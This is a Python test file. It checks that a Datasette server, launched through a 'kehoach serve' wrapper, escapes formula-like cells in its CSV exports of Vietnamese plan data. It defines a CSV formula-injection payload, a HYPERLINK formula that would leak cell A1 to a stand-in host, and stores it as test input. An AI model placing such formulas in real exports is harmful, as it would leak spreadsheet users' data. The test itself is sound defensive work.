"""Datasette's CSV downloads never carry a cell a spreadsheet would run (issue 12, row 12):
the real ``datasette serve`` that ``kehoach serve`` starts, asked for a table and a query as CSV."""
from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import time
import urllib.request
from pathlib import Path

from composed_plans import Plan, national_193
from pipeline import store
from pipeline.web import serve
from processes import free_port

ROOT = Path(__file__).resolve().parents[2]
EVIL = '=HYPERLINK("http://example.invalid/?leak="&A1,"Kế hoạch")'


def _get(url: str, timeout: float = 30) -> str:
    deadline = time.monotonic() + timeout
    while True:
        try:
            with urllib.request.urlopen(url, timeout=5) as r:
                return r.read().decode("utf-8")
        except OSError:
            if time.monotonic() > deadline:
                raise
            time.sleep(0.3)


def test_table_and_query_csv_write_formula_like_cells_as_text(tmp_path):
    db_path = tmp_path / "k.db"
    db = store.connect(db_path)
    p = Plan(None, "Hà Giang", "2021-03-11", "Phòng, chống mua bán người năm 2021", path=EVIL)
    national_193(p)
    p.target(80, "%", ">", "@SUM(1+1) tố giác được giải quyết", "Tỷ lệ tố giác được giải quyết đạt trên 80%.")
    p.write(db)
    db.close()
    port = free_port()
    proc = subprocess.Popen(serve.command(db_path, port=port), cwd=tmp_path, stdout=subprocess.DEVNULL,
                            stderr=subprocess.DEVNULL, env={**os.environ, "PYTHONPATH": str(ROOT)})
    try:
        base = f"http://127.0.0.1:{port}/k"
        table = list(csv.DictReader(io.StringIO(_get(f"{base}/documents.csv?_col=path&_col=title"))))
        assert [r["path"] for r in table] == ["'" + EVIL]
        query = list(csv.reader(io.StringIO(_get(
            f"{base}.csv?sql=select+metric,+value,+-5+as+minus,+'-2%2B3'+as+sum+from+targets"))))
        assert query[1][0].startswith("'@SUM") and query[1][2] == "-5" and query[1][3] == "'-2+3"
        cells = [c for row in table for c in row.values()] + [c for row in query for c in row]
        assert not any(c.startswith(("=", "+", "@")) for c in cells)
        # the plan page and the JSON are untouched
        assert json.loads(_get(f"{base}/documents.json?_shape=array&_col=path"))[0]["path"] == EVIL
    finally:
        proc.terminate()
        proc.wait(timeout=20)
